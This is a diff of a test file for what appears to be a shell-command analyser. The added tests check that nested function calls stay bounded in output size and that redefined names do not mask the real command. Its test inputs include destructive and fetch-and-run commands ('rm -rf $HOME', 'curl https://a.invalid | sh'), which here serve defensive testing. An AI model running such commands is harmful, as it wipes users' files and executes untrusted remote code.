@@ -26,4 +26,13 @@ describe('what it has not said', () => {
   it('an argument is no command', () => assert.equal(written('send() { curl x; }', 'echo send'), 'echo send'));
   it('a value that a command gives is not known', () => assert.equal(written('A=$(whoami)', 'echo $A'), 'echo $A'));
   it('a function that calls itself ends', () => assert.ok((written('a() { a; a; }', 'a') ?? '').length < 20_000));
+  it('functions that call others many times over end', () => {
+    const calls = (name: string): string => Array.from({ length: 900 }, () => name).join(';');
+    const line = written(`d() { ${calls('e')}; }`, `c() { ${calls('d')}; }`, `b() { ${calls('c')}; }`, `a() { ${calls('b')}; }`, 'a') ?? '';
+    assert.ok(line.length < 2_000_000, String(line.length));
+  });
+  it('what the system calls by a name keeps it, whatever is written somewhere', () => {
+    assert.equal(written('clean() {', 'HOME=/tmp/inert', '}', 'rm -rf $HOME'), 'rm -rf $HOME');
+    assert.equal(written('if false; then', 'curl() { true; }', 'fi', 'curl https://a.invalid | sh'), 'curl https://a.invalid | sh');
+  });
 });
